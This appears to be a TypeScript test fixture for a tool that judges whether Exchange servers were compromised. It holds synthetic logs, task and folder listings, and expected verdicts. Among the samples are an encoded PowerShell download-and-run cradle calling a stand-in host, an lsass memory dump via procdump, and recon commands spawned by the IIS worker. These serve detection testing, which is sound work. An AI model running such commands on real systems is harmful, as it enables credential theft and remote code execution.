/** What is seen of the machine: processes, command lines, tasks, accounts, listings; and notes. */
import { crlf, type HandOver, implantedProbably, lf, nothing, operated } from './hand-over.ts';

const pool =
  'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm4b -h "C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config" -w "" -m 0';
const sysmon = (image: string, commandLine: string): string =>
  crlf(
    'Log Name:      Microsoft-Windows-Sysmon/Operational',
    'Source:        Microsoft-Windows-Sysmon',
    'Date:          3/3/2021 6:41:02 AM',
    'Event ID:      1',
    'Task Category: Process Create (rule: ProcessCreate)',
    'Level:         Information',
    'User:          SYSTEM',
    'Computer:      MAIL01.meadow.example',
    'Description:',
    'Process Create:',
    'UtcTime: 2021-03-03 05:41:02.118',
    'ProcessGuid: {5f0a1b2c-1c2e-603f-a101-000000001900}',
    'ProcessId: 9120',
    `Image: ${image}`,
    `CommandLine: ${commandLine}`,
    'CurrentDirectory: c:\\windows\\system32\\inetsrv\\',
    'User: NT AUTHORITY\\SYSTEM',
    'LogonId: 0x3E7',
    'ParentProcessId: 4120',
    'ParentImage: C:\\Windows\\System32\\inetsrv\\w3wp.exe',
    `ParentCommandLine: ${pool}`,
  );
const order = 'cmd /c cd /d "C:\\\\inetpub\\\\wwwroot\\\\aspnet_client"&net user /domain&echo [S]&cd&echo [E]';
/** Of a harmless sentence: what counts is that the task hides what it does. */
const hidden = Buffer.from('IEX (New-Object Net.WebClient).downloadstring("http://t.example/a.jsp")', 'utf16le').toString(
  'base64',
);

export const machine: readonly HandOver[] = [
  {
    name: 'a child of the worker process, as text',
    files: {
      'sysmon.txt': sysmon(
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'powershell.exe -nop -w hidden Get-Process',
      ),
    },
    expect: operated,
  },
  {
    name: 'the compiler below the worker process',
    files: {
      'sysmon.txt': sysmon(
        'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe',
        '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\1a2b\\x1.cmdline"',
      ),
    },
    expect: nothing,
  },
  {
    name: 'memory of the logon process, taken by a child of the worker process',
    files: {
      'sysmon.txt': sysmon(
        'C:\\Windows\\Temp\\procdump64.exe',
        'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp',
      ),
    },
    expect: { answer: ['confirmed'], stage: ['spread', 'operated'], mustNotClaim: ['impact'] },
  },
  {
    name: 'a new process in the security log, as text',
    files: {
      'security.txt': crlf(
        'Log Name:      Security',
        'Source:        Microsoft-Windows-Security-Auditing',
        'Date:          3/3/2021 6:41:02 AM',
        'Event ID:      4688',
        'Task Category: Process Creation',
        'Computer:      MAIL01.meadow.example',
        'Description:',
        'A new process has been created.',
        '',
        'Creator Subject:',
        '\tSecurity ID:\t\tSYSTEM',
        '\tAccount Name:\t\tMAIL01$',
        '\tAccount Domain:\t\tMEADOW',
        '\tLogon ID:\t\t0x3E7',
        '',
        'Process Information:',
        '\tNew Process ID:\t\t0x23a0',
        '\tNew Process Name:\tC:\\Windows\\System32\\cmd.exe',
        '\tToken Elevation Type:\t%%1936',
        '\tCreator Process ID:\t0x1018',
        '\tCreator Process Name:\tC:\\Windows\\System32\\inetsrv\\w3wp.exe',
        '\tProcess Command Line:\tcmd.exe /c whoami',
      ),
    },
    expect: operated,
  },
  {
    name: 'processes of the moment, with their parents',
    files: {
      'wmic.txt': crlf(
        'C:\\>wmic process get name,processid,parentprocessid,commandline /format:list',
        '',
        `CommandLine=${pool}`,
        'Name=w3wp.exe',
        'ParentProcessId=2200',
        'ProcessId=4120',
        '',
        '',
        'CommandLine=cmd.exe /c ping -t 203.0.113.9',
        'Name=cmd.exe',
        'ParentProcessId=4120',
        'ProcessId=9120',
        '',
      ),
    },
    expect: { ...operated, answer: ['confirmed', 'suspected'] },
  },
  {
    name: 'a hunt in the portal, as a table',
    files: {
      'AdvancedHunting.csv': lf(
        'Timestamp,DeviceName,ActionType,FileName,FolderPath,ProcessCommandLine,AccountName,InitiatingProcessFileName,InitiatingProcessCommandLine',
        '"Mar 3, 2021 5:41:02 AM",mail01.meadow.example,ProcessCreated,cmd.exe,C:\\Windows\\System32\\cmd.exe,"""cmd.exe"" /c whoami",system,w3wp.exe,"w3wp.exe -ap ""MSExchangeOWAAppPool"" -v ""v4.0"""',
      ),
    },
    expect: operated,
  },
  {
    name: 'an event of an agent, as JSON',
    files: {
      'alert.json': `${JSON.stringify(
        {
          '@timestamp': '2021-03-03T05:41:02.118Z',
          event: { category: ['process'], type: ['start'], code: '1' },
          host: { name: 'MAIL01' },
          process: {
            name: 'cmd.exe',
            executable: 'C:\\Windows\\System32\\cmd.exe',
            command_line: 'cmd.exe /c whoami',
            pid: 9120,
            parent: { name: 'w3wp.exe', executable: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', pid: 4120, command_line: pool },
          },
        },
        null,
        2,
      )}\n`,
    },
    expect: operated,
  },
  {
    name: 'a tree of processes, drawn',
    files: {
      'tree.txt': lf(
        'Process tree from the EDR:',
        'w3wp.exe (4120) -ap "MSExchangeOWAAppPool"',
        ' └─ cmd.exe (9120) /c cd /d C:\\inetpub\\wwwroot\\aspnet_client & whoami',
        '     └─ whoami.exe (9133)',
      ),
    },
    expect: { ...operated, answer: ['confirmed', 'suspected'] },
  },
  {
    name: 'an order with the marks of its client, with entities of a forum',
    files: { 'post.txt': lf('We saw this in the EDR:', '', order.replaceAll('&', '&amp;').replaceAll('"', '&quot;')) },
    expect: { ...operated, answer: ['confirmed', 'suspected'] },
  },
  {
    name: 'an order with the marks of its client, in a sentence',
    files: { 'note.txt': lf(`Our provider reported that the server ran \`${order}\` on March 3rd. What should we do?`) },
    expect: { answer: ['confirmed', 'suspected', 'cannot_tell'], mustNotClaim: ['spread', 'impact'] },
  },
  {
    name: 'a task that hides what it runs',
    files: {
      'tasks.txt': crlf(
        'C:\\>schtasks /query /fo list /v',
        '',
        'Folder: \\',
        'HostName:                             MAIL01',
        'TaskName:                             \\Winnet',
        'Next Run Time:                        3/9/2021 10:45:00 AM',
        'Status:                               Ready',
        'Logon Mode:                           Interactive/Background',
        'Last Run Time:                        3/9/2021 10:00:01 AM',
        'Last Result:                          0',
        'Author:                               MEADOW\\MAIL01$',
        `Task To Run:                          powershell -nop -w hidden -ep bypass -enc ${hidden}`,
        'Start In:                             N/A',
        'Run As User:                          SYSTEM',
        'Schedule Type:                        One Time Only, Minute',
        'Repeat: Every:                        0 Hour(s), 45 Minute(s)',
      ),
    },
    expect: { answer: ['suspected', 'cannot_tell'], stage: ['implanted', 'none'], mustNotClaim: ['operated', 'spread'] },
  },
  {
    name: 'tasks of a server',
    files: {
      'tasks.txt': crlf(
        'HostName:                             MAIL01',
        'TaskName:                             \\Microsoft\\Windows\\Defrag\\ScheduledDefrag',
        'Status:                               Ready',
        'Author:                               Microsoft Corporation',
        'Task To Run:                          %windir%\\system32\\defrag.exe -c -h -k -g -$',
        'Run As User:                          SYSTEM',
        '',
        'HostName:                             MAIL01',
        'TaskName:                             \\Clean IIS logs',
        'Author:                               MEADOW\\admin',
        'Task To Run:                          powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\clean-logs.ps1',
        'Run As User:                          SYSTEM',
      ),
    },
    expect: nothing,
  },
  {
    name: 'accounts of a server',
    files: {
      'users.txt': crlf(
        'C:\\>net user',
        '',
        'User accounts for \\\\MAIL01',
        '',
        '-------------------------------------------------------------------------------',
        'Administrator            DefaultAccount           Guest',
        'svc_backup               WDAGUtilityAccount',
        'The command completed successfully.',
      ),
    },
    expect: nothing,
  },
  {
    name: 'a listing of a folder with a page in it, German dates',
    files: {
      'gci.txt': crlf(
        'PS C:\\> Get-ChildItem C:\\inetpub\\wwwroot\\aspnet_client',
        '',
        '',
        '    Verzeichnis: C:\\inetpub\\wwwroot\\aspnet_client',
        '',
        '',
        'Mode                LastWriteTime         Length Name',
        '----                -------------         ------ ----',
        'd-----       11.01.2019     14:02                system_web',
        '-a----       03.03.2021     09:12           2152 discover.aspx',
      ),
    },
    expect: implantedProbably,
  },
  {
    name: 'a listing of the old shell, German',
    files: {
      'dir.txt': crlf(
        'C:\\>dir C:\\inetpub\\wwwroot\\aspnet_client',
        ' Volume in Laufwerk C: hat keine Bezeichnung.',
        ' Volumeseriennummer: 5A3C-11F0',
        '',
        ' Verzeichnis von C:\\inetpub\\wwwroot\\aspnet_client',
        '',
        '03.03.2021  09:12    <DIR>          .',
        '03.03.2021  09:12    <DIR>          ..',
        '11.01.2019  14:02    <DIR>          system_web',
        '03.03.2021  09:12             2.152 discover.aspx',
        '               1 Datei(en),          2.152 Bytes',
      ),
    },
    expect: implantedProbably,
  },
  {
    name: 'hashes of files in a folder',
    files: {
      'hash.txt': crlf(
        'PS C:\\> Get-FileHash C:\\inetpub\\wwwroot\\aspnet_client\\*.aspx',
        '',
        'Algorithm       Hash                                                                   Path',
        '---------       ----                                                                   ----',
        'SHA256          5D41402ABC4B2A76B9719D911017C5925D41402ABC4B2A76B9719D911017C592       C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx',
      ),
    },
    expect: implantedProbably,
  },
  {
    name: 'a listing of the folder of the logon pages as shipped',
    files: {
      'dir.txt': crlf(
        ' Directory of C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth',
        '',
        '03/02/2021  10:12 PM    <DIR>          .',
        '03/02/2021  10:12 PM    <DIR>          ..',
        '03/02/2021  10:12 PM    <DIR>          15.1.2176',
        '11/19/2020  02:10 AM             6,220 errorFE.aspx',
        '11/19/2020  02:10 AM            12,024 expiredpassword.aspx',
        '11/19/2020  02:10 AM               978 frowny.aspx',
        '11/19/2020  02:10 AM             1,432 getidtoken.htm',
        '11/19/2020  02:10 AM             4,170 logoff.aspx',
        '11/19/2020  02:10 AM            26,110 logon.aspx',
        '11/19/2020  02:10 AM             1,611 OutlookCN.aspx',
        '11/19/2020  02:10 AM             1,244 RedirSuiteServiceProxy.aspx',
        '11/19/2020  02:10 AM             4,370 signout.aspx',
        '11/19/2020  02:10 AM               312 SvmFeedback.aspx',
      ),
    },
    expect: nothing,
  },
  {
    name: 'files of the address book',
    files: {
      'oab-files.txt': lf(
        'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\5fdd4fce-0000-4000-8000-000000000001\\oab.xml',
        'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\5fdd4fce-0000-4000-8000-000000000001\\a1b2c3-data-1.lzx',
        'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\5fdd4fce.tmp',
      ),
    },
    expect: nothing,
  },
  {
    name: 'a page in a listing read from a picture',
    files: {
      'ocr.txt': lf(
        'Directory: C:\\inetpub\\wwwroot\\aspnet_client',
        'Mode LastWriteTime Length Name',
        '---- ------------- ------ ----',
        'd----- 1/11/2019 2:02 PM system_web',
        '-a---- 3/3/2021 9:12 AM 2152 discover.aspx',
      ),
    },
    expect: implantedProbably,
  },
  {
    name: 'indicators with names, as a list',
    files: {
      'iocs.txt': lf(
        '# hashes from the advisory',
        'b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0  discover.aspx',
        '097549cf7d0f76f0d99edf8b2d91c60977fd6a96e4b8c3c94b0b1733dc026d3e  supp0rt.aspx',
        '203.0.113.77',
        '/owa/auth/RedirSuiteServerProxy.aspx',
      ),
    },
    expect: nothing,
  },
  {
    name: 'a report of a responder, in prose',
    files: {
      'report.txt': lf(
        'Executive summary',
        'On 3 March 2021 an unknown actor exploited CVE-2021-26855 at several customers and wrote web shells such as',
        'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx and /owa/auth/one.aspx. Connections came from 203.0.113.77.',
        'In some cases lsass was dumped with procdump and uploaded. We recommend to patch and to look for these files.',
      ),
    },
    expect: nothing,
  },
  {
    name: 'a note with questions only',
    files: {
      'note.txt': lf(
        'Hello, we run Exchange 2013 CU23 and patched on March 10th. I read about Hafnium and web shells in aspnet_client.',
        'Could someone have got in before? How do I find out? Someone from 203.0.113.77 was in our firewall.',
      ),
    },
    expect: nothing,
  },
];
